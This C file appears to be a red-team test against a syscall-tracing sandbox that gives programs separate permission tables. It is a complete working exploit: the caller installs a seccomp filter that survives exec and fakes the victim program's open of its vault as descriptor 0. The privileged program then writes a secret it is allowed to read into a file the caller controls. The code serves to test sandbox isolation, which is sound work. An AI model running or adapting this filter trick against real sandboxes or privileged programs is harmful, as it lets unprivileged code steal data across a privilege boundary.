/* exec_filter.c: a caller's seccomp filter, carried into a program's table (red team 35).
 *
 * A seccomp filter outlives exec.  The kernel lets an unprivileged process install one only
 * under no_new_privs, which makes a later set-user-ID exec run without the privilege
 * (seccomp(2): so that a filter cannot steer a privileged program).  An exec into another
 * table is a change of privilege with no such rule: the caller's filter answers the
 * program's calls -- SECCOMP_RET_ERRNO outranks the tracer's SECCOMP_RET_TRACE, so systrace
 * never sees them, and an errno of 0 makes a call "succeed" at once, returning 0.  Here the
 * filter answers the program's open of its vault (O_WRONLY|O_APPEND|O_CREAT) with 0: the
 * program writes the secret it was allowed to read onto descriptor 0, the caller's file.
 *
 *   exec_filter attack VICTIM STOLEN SECRET VAULT self|inherit
 *       fork; the child puts STOLEN (a file of the caller's) at descriptor 0, installs the
 *       filter (self; inherit: the caller installs it before the fork) and execs VICTIM (this
 *       program, copied where a table names it); ESCAPED when STOLEN then holds the secret.
 *   exec_filter victim SECRET VAULT
 *       the program with a table of its own: copies SECRET into VAULT.
 */
#include "attack.h"

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>

#define VAULT_FLAGS (O_WRONLY | O_APPEND | O_CREAT)

static int victim(const char *secret, const char *vault) {
    char buf[4096];
    int in = open(secret, O_RDONLY);
    if (in < 0) {
        perror("open secret");
        return 1;
    }
    ssize_t n = read(in, buf, sizeof buf);
    close(in);
    int out = open(vault, VAULT_FLAGS, 0600);
    if (n <= 0 || out < 0) {
        perror("open vault");
        return 1;
    }
    if (write(out, buf, (size_t)n) != n) perror("write");
    return 0;
}

static void install_filter(void) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, VAULT_FLAGS, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),  /* "opened": descriptor 0 */
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof *code, code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0) blocked("no_new_privs: %s", ename(errno));
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) {
        blocked("seccomp: %s", ename(errno));
    }
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "victim") == 0) return victim(argv[2], argv[3]);
    if (argc != 7 || strcmp(argv[1], "attack") != 0) {
        blocked("usage: exec_filter attack VICTIM STOLEN SECRET VAULT self|inherit");
    }
    const char *prog = argv[2], *stolen = argv[3], *secret = argv[4], *vault = argv[5];
    const char *how = argv[6];
    int stolen_fd = open(stolen, O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (stolen_fd < 0) blocked("open %s: %s", stolen, ename(errno));
    if (strcmp(how, "inherit") == 0) install_filter();
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) blocked("pipe: %s", ename(errno));
    pid_t pid = fork();
    if (pid < 0) blocked("fork: %s", ename(errno));
    if (pid == 0) {
        dup2(stolen_fd, 0);
        if (strcmp(how, "self") == 0) install_filter();
        execl(prog, prog, "victim", secret, vault, (char *)NULL);
        int e = errno;
        (void)!write(pipefd[1], &e, sizeof e);
        _exit(126);
    }
    close(pipefd[1]);
    int e = 0;
    if (read(pipefd[0], &e, sizeof e) != (ssize_t)sizeof e) e = 0;
    int status;
    waitpid(pid, &status, 0);
    char buf[4096] = {0};
    ssize_t n = pread(stolen_fd, buf, sizeof buf - 1, 0);
    if (n > 0 && strstr(buf, SECRET_MAGIC)) {
        escaped("the program's table read the secret onto the caller's descriptor (%s)", how);
    }
    blocked("exec: %s, status %d; the caller's file holds no secret", e ? ename(e) : "ran",
            WIFEXITED(status) ? WEXITSTATUS(status) : -1);
}
